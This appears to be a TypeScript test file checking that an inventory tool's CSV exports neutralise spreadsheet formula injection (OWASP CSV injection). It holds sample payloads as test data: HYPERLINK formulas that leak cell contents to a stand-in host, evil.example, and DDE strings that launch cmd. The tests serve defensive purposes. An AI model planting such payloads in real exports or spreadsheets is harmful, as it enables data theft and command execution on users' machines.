import { openTestDatabase, testDatabaseKind, type TestDatabase } from '../support/test-database';
import { SyncHarness, TEST_SECRET_BOX } from '../support/sync-harness';
import { computer } from '../support/jamf-factories';
import { runExport } from '../../src/cli/export-command';
import { RecordWriter, stringSink, type ExportFormat } from '../../src/inventory/export-writer';
import { Readable } from 'node:stream';
import { readCsvRecords, type CsvRecord } from '../../src/inventory/csv';
import { neutraliseCsvFormula } from '../../src/inventory/csv-formula';
import { importAssets } from '../../src/inventory/import-assets';

/** Cells a spreadsheet would run, one per character OWASP lists (names and imported fields are trimmed, so tab and CR only in the writer's test). */
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+9)*cmd|" /C calc"!A0'];
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1)';

describe(`CSV exports neutralise formulas (OWASP CSV injection) (${testDatabaseKind})`, () => {
  let db: TestDatabase;
  let s: SyncHarness;
  beforeAll(async () => {
    db = await openTestDatabase();
    // From Jamf: a user's real name (anyone who can edit a user record in Jamf types it).
    s = await SyncHarness.start(db, { computers: [computer({ id: 1, email: 'eve@acme.example', realname: `Eve ${HYPERLINK}` })] });
    expect((await s.sync()).counts.employeesCreated).toBe(1);
    // From an import: the inventory's own fields, one formula each.
    await importAssets(db.db, {
      organizationSlug: 'acme',
      fileName: 'assets.json',
      text: JSON.stringify(FORMULAS.map((location, i) => ({ serialNumber: `F${i}`, assetType: 'laptop', status: 'available', location }))),
    });
  });
  afterAll(async () => {
    await s?.stop();
    await db?.close();
  });

  const exported = async (what: string, format: ExportFormat) => {
    const sink = stringSink();
    await runExport({ db: db.db, box: TEST_SECRET_BOX }, sink, what, { org: 'acme', format });
    return sink.text();
  };
  const parseCsv = async (text: string) => {
    const records: CsvRecord[] = [];
    for await (const record of readCsvRecords(Readable.from([text]))) records.push(record);
    return records;
  };
  const rows = async (text: string) => {
    const [header, ...records] = await parseCsv(text);
    return records.map((r) => Object.fromEntries(header.fields.map((h, i) => [h, r.fields[i]])));
  };

  it('export employees --format csv: a Jamf real name that is a formula starts with a single quote; JSON keeps it as stored', async () => {
    expect(await rows(await exported('employees', 'csv'))).toEqual([{ firstName: 'Eve', lastName: `'${HYPERLINK}`, emails: 'eve@acme.example' }]);
    expect(JSON.parse(await exported('employees', 'json'))).toEqual([{ firstName: 'Eve', lastName: HYPERLINK, emails: ['eve@acme.example'] }]);
  });

  it('export assets --format csv: every cell starting with =, +, - or @ is quoted', async () => {
    const locations = Object.fromEntries((await rows(await exported('assets', 'csv'))).map((r) => [r.serialNumber, r.location]));
    expect(FORMULAS.map((_, i) => locations[`F${i}`])).toEqual(FORMULAS.map((f) => `'${f}`));
  });

  it('no CSV export has a cell a spreadsheet would run', async () => {
    for (const what of ['employees', 'assets', 'changes', 'runs']) {
      const cells = (await parseCsv(await exported(what, 'csv'))).slice(1).flatMap((r) => r.fields);
      expect(cells.length).toBeGreaterThan(0);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    }
  });

  it('the writer quotes a cell starting with a tab or a carriage return too, and leaves every other value as it is', async () => {
    const sink = stringSink();
    const writer = new RecordWriter<unknown[]>(sink, 'csv', ['a', 'b', 'c'], (r) => r);
    await writer.begin();
    await writer.writePage([['\t=1+1', '\r=1+1', -5]]);
    expect((await parseCsv(sink.text()))[1].fields).toEqual(["'\t=1+1", "'\r=1+1", '-5']);
    for (const value of ['Ann', ' =1', "'=already quoted", 'a=b', '', 'C02-1', '2026-01-01T00:00:00.000Z']) expect(neutraliseCsvFormula(value)).toBe(value);
    for (const value of [-5, 0, true, null, undefined]) expect(neutraliseCsvFormula(value)).toBe(value);
  });
});
